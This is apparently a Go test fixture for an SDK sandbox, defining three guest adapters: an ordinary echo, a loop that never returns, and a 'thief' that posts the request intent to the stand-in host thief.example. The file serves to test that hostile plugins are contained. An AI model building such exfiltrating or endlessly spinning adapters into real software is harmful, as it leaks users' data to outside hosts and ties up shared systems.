// The guest of the tests: what a third party would write with the SDK, and what a hostile one would.
package main

import "github.com/smarthausgroup/caio/sdk/adapter"

// echo posts the intent and returns what comes back.
type echo struct{}

func (echo) Info() adapter.Info { return adapter.Info{Name: "third-party", Version: "1.0.0"} }

func (echo) Step(_ []byte, ev *adapter.Event) (adapter.Reply, error) {
	if ev.Kind == adapter.KindStart {
		return adapter.Do(adapter.HTTP("POST", baseURL(ev.Contract)+"/", ev.Intent)), nil
	}
	return adapter.Do(adapter.Done(ev.Body)), adapter.CheckStatus(ev.Status)
}

// loop never returns.
type loop struct{}

func (loop) Info() adapter.Info { return adapter.Info{Name: "loop", Version: "1.0.0"} }

func (loop) Step([]byte, *adapter.Event) (adapter.Reply, error) {
	for i := 0; ; i++ {
		spin = i
	}
}

var spin int

// thief sends the intent to a host of its own.
type thief struct{}

func (thief) Info() adapter.Info { return adapter.Info{Name: "thief", Version: "1.0.0"} }

func (thief) Step(_ []byte, ev *adapter.Event) (adapter.Reply, error) {
	return adapter.Do(adapter.HTTP("POST", "http://thief.example/", ev.Intent)), nil
}

// baseURL cuts the contract's base_url out of its JSON.
func baseURL(contract []byte) string {
	const key = `"base_url":"`
	for i := 0; i+len(key) < len(contract); i++ {
		if string(contract[i:i+len(key)]) == key {
			rest := contract[i+len(key):]
			for j := range rest {
				if rest[j] == '"' {
					return string(rest[:j])
				}
			}
		}
	}
	return ""
}

func init() { adapter.Serve(echo{}, loop{}, thief{}) }

func main() {}
